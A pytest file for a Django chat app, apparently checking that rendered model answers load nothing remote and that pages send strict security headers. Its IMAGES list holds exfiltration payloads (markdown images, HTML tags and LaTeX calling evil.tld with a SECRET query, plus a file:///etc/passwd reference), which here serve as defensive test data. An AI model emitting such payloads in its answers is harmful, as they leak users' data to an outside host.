"""What a model writes sends nothing to anybody: no page loads a thing by itself, and none says more than it must."""

from __future__ import annotations

import http.client
import re
from uuid import uuid4

import pytest
from django.conf import settings
from django.http import HttpResponseBase
from django.test import Client

from conversations import markdown
from conversations.markdown import GrowingText
from conversations.models import Conversation
from tests.attacks.routes import all_routes, build_world
from tests.conversations.markdown.page import Page
from tests.conversations.markdown.safety import assert_safe
from tests.serving import Web

IMAGES = [
    "![x](https://evil.tld/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.tld/?q=SECRET",
    "![r]\n\n[r]: <https://evil.tld/?q=SECRET> 'title'",
    "[![x](https://evil.tld/?q=SECRET)](https://evil.tld/)",
    "![![x](https://evil.tld/1)](https://evil.tld/?q=SECRET)",
    "| ![x](https://evil.tld/?q=SECRET) |\n|---|\n| ![x](https://evil.tld/?q=SECRET) |",
    "- > ![x](https://evil.tld/?q=SECRET)\n\nnote[^1]\n\n[^1]: ![x](https://evil.tld/)",
    "![x](//evil.tld/?q=SECRET) ![x](\\\\evil.tld\\x) ![x](/%5cevil.tld) ![x](https:evil.tld)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](blob:https://evil.tld/1) ![x](file:///etc/passwd)",
    "![x](/c/{c}/i/{i}/) ![x](http://127.0.0.1:8000/c/{c}/i/{i}/) ![x](http://localhost:8000/accounts/logout/)",
    *[f"![{letter}](/c/{{c}}/i/{{i}}/?{letter})" for letter in "ab"],
    "<img src=https://evil.tld> <img srcset='https://evil.tld 1x'> <picture><source srcset=//evil.tld></picture>",
    "<video poster=https://evil.tld> <audio src=//evil.tld autoplay> <link rel=prefetch href=//evil.tld>",
    "<a ping=//evil.tld href=//evil.tld> <style>@import '//evil.tld'</style> <p style='background:url(//x)'>",
    "$\\includegraphics{https://evil.tld}$ $\\href{https://evil.tld}{x}$ $\\url{https://evil.tld}$",
]
LOADS = re.compile(r"<[^>]*\s(?:src|srcset|poster|ping|style|background|data|action|xlink:href|cite|longdesc)=", re.I)


@pytest.mark.parametrize("text", IMAGES)
def test_nothing_is_loaded_at_any_state_of_an_answer_also_from_ourselves(text: str) -> None:
    """EX1 to EX4: one character at a time, and whole. What is an address is a link that somebody has to follow."""
    text = text.replace("{c}", str(uuid4())).replace("{i}", str(uuid4()))
    growing = GrowingText("t1")
    for character in text:
        growing.feed(character)
        assert not LOADS.search(growing.html())
        assert_safe(growing.html(), "t1")
    shown = markdown.render(text)
    assert not LOADS.search(shown)
    assert_safe(shown)


@pytest.mark.parametrize("text", IMAGES[:6])
def test_an_image_from_elsewhere_names_its_host(text: str) -> None:
    chips = [it for it in Page(markdown.render(text)).root.walk() if it.attributes.get("class") == "host"]
    assert {it.text for it in chips} == {"evil.tld"}


# What every page says to the browser.

HEADERS = {
    "X-DNS-Prefetch-Control": "off",
    "Referrer-Policy": "same-origin",
    "X-Content-Type-Options": "nosniff",
    "Cross-Origin-Opener-Policy": "same-origin",
}
# Nothing but what is named here, and only from ourselves; a script only with the page's own number.
POLICY = re.compile(
    r"default-src 'none'; (?:script-src 'nonce-([\w-]{20,})'; )?style-src 'self'; img-src 'self' blob:; "
    r"font-src 'self'; manifest-src 'self'; worker-src 'self'; connect-src 'self'; form-action 'self'; "
    r"base-uri 'none'; frame-ancestors 'none'"
)
SEALED = "default-src 'none'; sandbox"  # an image
# Of a link, whose readers may be anybody: it has nothing to install, to choose or to print in.
SHARED = re.compile(
    r"default-src 'none'; (?:script-src 'nonce-([\w-]{20,})'; )?style-src 'self'; img-src 'self'; connect-src 'self'; "
    r"form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
)


def assert_says_it_all(response: HttpResponseBase, where: str) -> None:
    is_shared = where.startswith("s/")
    for name, value in HEADERS.items():
        allowed = {value, "no-referrer", "strict-origin"} if is_shared and name == "Referrer-Policy" else {value}
        assert response.get(name) in allowed, (where, name, response.status_code)
    policy = response.get("Content-Security-Policy", "")
    assert policy == SEALED or (SHARED if is_shared else POLICY).fullmatch(policy), (where, policy)


@pytest.mark.parametrize("who", ["anonymous", "owner", "administrator"])
def test_every_page_says_that_nothing_is_loaded_from_elsewhere_or_told_to_others(
    transactional_db: None, who: str
) -> None:
    world = build_world()
    for route in [*all_routes(), "nowhere/", "c/nothing/"]:
        browser = world.browser(who)
        for response in (browser.get(world.address(route)), browser.post(world.address(route))):
            assert_says_it_all(response, route)


def test_the_number_that_lets_a_script_run_is_another_one_each_time(browser_of_alice: Client) -> None:
    policies = [browser_of_alice.get("/")["Content-Security-Policy"] for _ in range(5)]
    assert len({found[1] for it in policies if (found := POLICY.fullmatch(it))}) == 5


def test_what_is_refused_says_so_too(browser_of_alice: Client, conversation: Conversation) -> None:
    careful = Client(enforce_csrf_checks=True)
    for where, response in {
        "another site's form": careful.post("/c/", headers={"Origin": "https://evil.tld"}),
        "another host": careful.get("/", headers={"Host": "evil.tld"}),
        "too much": browser_of_alice.post("/c/", {str(number): "" for number in range(2_000)}),
        "not there": browser_of_alice.get("/static/nothing.js"),
        "a verb": browser_of_alice.put("/c/"),
    }.items():
        assert 400 <= response.status_code < 500
        assert_says_it_all(response, where)


@pytest.mark.parametrize("path", ["/static/js/chat.js", "/static/css/chat.css", "/static/icon.svg", "/static/.env"])
def test_the_server_says_it_with_files_as_well(server: Web, path: str) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    connection.request("GET", path)
    response = connection.getresponse()
    response.read()
    assert response.getheader("X-DNS-Prefetch-Control") == "off"
    assert response.getheader("X-Content-Type-Options") == "nosniff"
    assert "default-src 'none'" in str(response.getheader("Content-Security-Policy"))


def test_the_session_is_told_to_nobody_and_to_no_script() -> None:
    assert settings.SESSION_COOKIE_HTTPONLY
    assert settings.SESSION_COOKIE_SAMESITE == "Lax"
